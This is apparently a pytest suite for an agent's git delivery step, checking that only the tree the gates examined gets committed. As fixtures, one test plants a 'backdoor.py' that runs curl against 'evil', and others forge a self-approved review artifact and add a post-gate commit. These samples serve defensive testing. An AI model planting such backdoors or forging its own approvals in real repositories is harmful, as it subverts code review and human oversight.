"""Delivery commits the tree the gates checked, or refuses and commits nothing (real git, no agent)."""

from __future__ import annotations

from pathlib import Path

import pytest

from pm_agent.engine.deliver_step import known_record
from pm_agent.engine.delivery import (
    CHECKED_TREE,
    Delivery,
    IntegrityError,
    TaskCommit,
    commit_task,
    deliver,
    land,
)
from pm_agent.plan.models import Task
from pm_agent.vcs import CheckedTree, Git, kept_snapshot, snapshot, tree_with_files

WORKING = "pm/p/work"
BRANCH = "feat/p/task-1-addition"
ARTIFACT = "docs/reviews/task-1-review.md"
TASK = Task(id="1", title="Addition", acceptance_criteria=["add(a, b) returns the sum"])


@pytest.fixture
def repo(git_repo: Path) -> Git:
    git = Git(git_repo)
    git.run("branch", WORKING)
    return git


@pytest.fixture
def wt(repo: Git, tmp_path: Path) -> Git:
    worktree = repo.worktree_add(tmp_path / "wt", BRANCH, WORKING)
    (worktree.path / "src").mkdir()
    (worktree.path / "src" / "add.py").write_text("def add(a, b):\n    return a + b\n")
    return worktree


def run(repo: Git, wt: Git, checked: CheckedTree | None, since: str | None = None) -> Delivery:
    return deliver(
        repo,
        wt,
        task=TASK,
        plan_id="p",
        task_branch=BRANCH,
        working_branch=WORKING,
        artifact_path=ARTIFACT,
        artifact_text="# pm-agent's review of task-1\n",
        tag_checkpoint=False,
        checked=checked,
        since=since,
    )


def tree_files(repo: Git, ref: str) -> set[str]:
    return {p for p in repo.run("ls-tree", "-r", "--name-only", ref).split("\n") if p}


def test_the_checked_tree_and_the_artifact_are_committed_and_integrated(repo: Git, wt: Git) -> None:
    checked = snapshot(wt)
    done = run(repo, wt, checked)

    assert done.refused is None
    assert done.commit_sha is not None
    assert repo.rev_parse(WORKING) == done.commit_sha
    assert tree_files(repo, WORKING) == {"README.md", "src/add.py", ARTIFACT}
    assert repo.show_file(WORKING, ARTIFACT) == "# pm-agent's review of task-1\n"
    assert repo.run("log", "-1", "--format=%s", WORKING).strip() == "feat(core): addition"
    again = run(repo, wt, checked)
    assert again.already_done
    assert again.commit_sha == done.commit_sha, "idempotent on the Refs trailer"


def test_a_file_written_after_the_gates_is_refused_and_nothing_is_committed(repo: Git, wt: Git) -> None:
    checked = snapshot(wt)
    (wt.path / "src" / "backdoor.py").write_text("import os\nos.system('curl evil')\n")
    (wt.path / "src" / "add.py").write_text("def add(a, b):\n    return a - b\n")
    before = (repo.rev_parse(WORKING), wt.head_sha())

    done = run(repo, wt, checked)

    assert done.refused is not None
    assert done.commit_sha is None
    assert done.task_commit is None
    assert done.refused.paths == ("src/add.py (modified)", "src/backdoor.py (new)")
    assert done.refused.evidence().startswith(f"[{CHECKED_TREE}] the worktree changed after the gates")
    assert (repo.rev_parse(WORKING), wt.head_sha()) == before
    assert repo.find_commit_by_trailer(TASK.ref, BRANCH) is None


def test_caches_and_a_forged_review_artifact_do_not_block_delivery_and_are_not_committed(repo: Git, wt: Git) -> None:
    checked = snapshot(wt)
    for cache in (".tox/py311/log.txt", "src/__pycache__/add.cpython-311.pyc", ".pytest_cache/README.md"):
        (wt.path / cache).parent.mkdir(parents=True, exist_ok=True)
        (wt.path / cache).write_text("generated\n")
    (wt.path / ARTIFACT).parent.mkdir(parents=True)
    (wt.path / ARTIFACT).write_text("# approved by myself\n")

    done = run(repo, wt, checked)

    assert done.refused is None
    assert tree_files(repo, WORKING) == {"README.md", "src/add.py", ARTIFACT}
    assert repo.show_file(WORKING, ARTIFACT) == "# pm-agent's review of task-1\n"


def test_a_commit_made_after_the_gates_stops_the_task_with_an_integrity_error(repo: Git, wt: Git) -> None:
    checked = snapshot(wt)
    wt.run("add", "-A")
    wt.run("-c", "user.name=Agent", "-c", "user.email=agent@x", "commit", "-qm", "reviewer's own commit")

    with pytest.raises(IntegrityError, match=r"checked-tree: HEAD of .* moved after the gates ran"):
        run(repo, wt, checked)

    assert repo.rev_parse(WORKING) == repo.rev_parse("main")
    assert wt.log(1)[0].subject == "reviewer's own commit", "nothing is committed on top of it"


def test_without_a_recorded_gate_run_nothing_is_committed(repo: Git, wt: Git) -> None:
    done = run(repo, wt, None)
    assert done.refused is not None
    assert "no gate run recorded" in done.refused.reason
    assert repo.rev_parse(WORKING) == repo.rev_parse("main")
    gone = CheckedTree(tree="1" * 40, head=wt.head_sha())
    missing = run(repo, wt, gone)
    assert missing.refused is not None
    assert "gone from the repository" in missing.refused.reason


def test_a_commit_already_on_the_task_branch_is_landed_not_made_again(repo: Git, wt: Git) -> None:
    # As after a crash between the task's commit and its integration: the task branch has it, the working
    # branch does not; the one combined look finds it, and the per-branch looks say where.
    checked = snapshot(wt)
    made = commit_task(
        repo, wt, task=TASK, working_branch=WORKING, artifact_path=ARTIFACT, artifact_text="x\n", checked=checked
    )
    assert isinstance(made, TaskCommit)
    assert not made.landed
    assert repo.rev_parse(WORKING) != made.sha
    again = commit_task(
        repo, wt, task=TASK, working_branch=WORKING, artifact_path=ARTIFACT, artifact_text="x\n", checked=checked
    )
    assert again == TaskCommit(made.sha)
    assert repo.rev_parse(BRANCH) == made.sha  # no second commit
    done = run(repo, wt, checked)
    assert done.commit_sha == repo.rev_parse(WORKING)
    assert repo.run("log", "--format=%s", WORKING).splitlines() == ["feat(core): addition", "Initial commit"]


@pytest.mark.parametrize("artifact_on_disk", [False, True])
def test_the_commit_holds_exactly_the_checked_tree_plus_the_artifact(
    repo: Git, wt: Git, artifact_on_disk: bool
) -> None:
    # With nothing changed since the gates, the commit's tree is built on delivery's own snapshot index; with
    # uncounted changes (the agent's copy of the artifact, a cache) on a fresh one: the same tree either way.
    (wt.path / "notes.txt").write_text("untracked, checked\n")
    (wt.path / "README.md").unlink()
    checked = snapshot(wt)
    if artifact_on_disk:
        (wt.path / ARTIFACT).parent.mkdir(parents=True)
        (wt.path / ARTIFACT).write_text("# approved by myself\n")
        (wt.path / ".tox" / "py311").mkdir(parents=True)
        (wt.path / ".tox" / "py311" / "log.txt").write_text("a cache delivery does not count\n")
    text = "# pm-agent's review of task-1\n"
    made = commit_task(
        repo, wt, task=TASK, working_branch=WORKING, artifact_path=ARTIFACT, artifact_text=text, checked=checked
    )
    assert isinstance(made, TaskCommit)
    assert repo.rev_parse_tree(made.sha) == tree_with_files(repo, checked.tree, {ARTIFACT: text})
    assert repo.run("rev-parse", f"{made.sha}^").strip() == checked.head
    # The worktree holds the commit, artifact included (its index is left as it was: the worktree goes next).
    assert [c.path for c in wt.diff_name_status(made.sha)] == ([".tox/py311/log.txt"] if artifact_on_disk else [])


@pytest.mark.parametrize("late", ["", "src/late.py", "src/add.py"])
def test_the_gates_kept_snapshot_gives_the_same_commit_or_the_same_refusal(repo: Git, wt: Git, late: str) -> None:
    # Delivery asks the gate run's kept index whether anything changed (one dry run) and builds the commit on
    # it; a file written since must still refuse the delivery, naming the same paths as without it.
    checked, kept = kept_snapshot(wt)
    if late:
        (wt.path / late).write_text("written after the gates\n")
    text = "# pm-agent's review of task-1\n"
    try:
        made = commit_task(
            repo,
            wt,
            task=TASK,
            working_branch=WORKING,
            artifact_path=ARTIFACT,
            artifact_text=text,
            checked=checked,
            kept=kept,
        )
    finally:
        kept.close()
    if not late:
        assert isinstance(made, TaskCommit)
        assert repo.rev_parse_tree(made.sha) == tree_with_files(repo, checked.tree, {ARTIFACT: text})
        assert wt.worktree_tree() == repo.rev_parse_tree(made.sha)
        return
    assert isinstance(made, Delivery)
    assert made.refused is not None
    assert made.refused.paths == (f"{late} ({'modified' if late == 'src/add.py' else 'new'})",)
    assert repo.find_commit_by_trailer(TASK.ref, BRANCH) is None


def test_an_earlier_plans_commit_of_the_same_task_id_is_not_this_runs(git_repo: Path, tmp_path: Path) -> None:
    # A first plan's task-1, merged into main before this run began (its baseline), is another task: this
    # run's task-1 is committed and landed, not taken as done (which would drop its work unseen).
    repo = Git(git_repo)
    (git_repo / "old.txt").write_text("an earlier plan's task 1\n")
    repo.run("add", "-A")
    repo.run("commit", "-q", "-m", "feat(old): first plan\n\nRefs: task-1\n")
    baseline = repo.head_sha()
    repo.run("branch", WORKING)
    worktree = repo.worktree_add(tmp_path / "wt", BRANCH, WORKING)
    (worktree.path / "add.py").write_text("def add(a, b):\n    return a + b\n")
    done = run(repo, worktree, snapshot(worktree), since=baseline)
    assert not done.already_done
    assert done.commit_sha is not None
    assert done.commit_sha != baseline
    assert "add.py" in tree_files(repo, WORKING)
    assert run(repo, worktree, snapshot(worktree), since=baseline).already_done, "this run's own commit is found"


def _land(repo: Git, wt: Git, checked: CheckedTree) -> tuple[TaskCommit | Delivery, Delivery]:
    made = commit_task(
        repo, wt, task=TASK, working_branch=WORKING, artifact_path=ARTIFACT, artifact_text="# review\n", checked=checked
    )
    assert isinstance(made, TaskCommit)
    return made, land(repo, made, task=TASK, plan_id="p", task_branch=BRANCH, working_branch=WORKING,
                      tag_checkpoint=False)  # fmt: skip


def _shown(repo: Git, sha: str) -> tuple[str, list[str]]:
    first, _, names = repo.run("show", "--name-only", "--format=%s", sha).partition("\n")
    return first.strip(), [n for n in names.splitlines() if n]


@pytest.mark.parametrize("moved", [False, True], ids=["fast-forward", "cherry-picked"])
def test_the_commit_record_told_without_git_is_what_git_shows(repo: Git, wt: Git, moved: bool) -> None:
    # The base has files to modify and delete; the change touches paths git orders byte-wise (a space, a
    # non-ASCII name, a name sorting between a directory and its files).
    for name in ("old.txt", "a.b", "z/keep.txt"):
        (repo.path / name).parent.mkdir(exist_ok=True)
        (repo.path / name).write_text(f"{name}\n")
    repo.run("add", "-A")
    repo.run("-c", "user.name=T", "-c", "user.email=t@e", "commit", "-q", "-m", "base")
    repo.run("branch", "-f", WORKING, "HEAD")
    wt.run("reset", "-q", "--hard", WORKING)
    (wt.path / "src").mkdir(exist_ok=True)
    (wt.path / "src" / "add.py").write_text("def add(a, b):\n    return a + b\n")
    (wt.path / "old.txt").unlink()
    (wt.path / "a.b").write_text("changed\n")
    (wt.path / "a-c d.txt").write_text("space\n")
    (wt.path / "zé.txt").write_text("accent\n")
    (wt.path / "z" / "keep.txt").write_text("kept, changed\n")
    base = wt.head_sha()
    checked = snapshot(wt)
    names = tuple(f.path for f in wt.changes(base, checked.tree).files)
    if moved:  # the working branch moved on: the task's commit is picked onto it
        other = repo.worktree_add(wt.path.parent / "other", "other", WORKING)
        (other.path / "other.txt").write_text("other\n")
        other.run("add", "-A")
        other.run("-c", "user.name=T", "-c", "user.email=t@e", "commit", "-q", "-m", "other")
        repo.run("update-ref", f"refs/heads/{WORKING}", other.head_sha())

    made, done = _land(repo, wt, checked)

    assert done.integration is not None
    assert done.integration.status == ("cherry-picked" if moved else "fast-forward")
    known = known_record(made, done, checked, (base, checked.tree, names), ARTIFACT)
    assert done.commit_sha is not None
    assert known == _shown(repo, done.commit_sha)
    # Not told when what the gates saw is another change, or for another HEAD: git is asked then.
    assert known_record(made, done, checked, (base, "0" * 40, names), ARTIFACT) is None
    assert known_record(made, done, checked, ("0" * 40, checked.tree, names), ARTIFACT) is None
    assert known_record(made, done, checked, None, ARTIFACT) is None
    assert known_record(TaskCommit(made.sha if isinstance(made, TaskCommit) else ""), done, checked,
                        (base, checked.tree, names), ARTIFACT) is None  # fmt: skip


def test_a_commit_landed_in_an_earlier_run_is_not_told(repo: Git, wt: Git) -> None:
    checked = snapshot(wt)
    base = wt.head_sha()
    made, done = _land(repo, wt, checked)
    again, landed = _land(repo, wt, checked)  # found by its trailer on the working branch: nothing made now
    assert isinstance(again, TaskCommit)
    assert again.landed
    assert landed.already_done
    paths = (base, checked.tree, ("src/add.py",))
    assert known_record(again, landed, checked, paths, ARTIFACT) is None
    assert known_record(made, done, checked, paths, ARTIFACT) == ("feat(core): addition", [ARTIFACT, "src/add.py"])
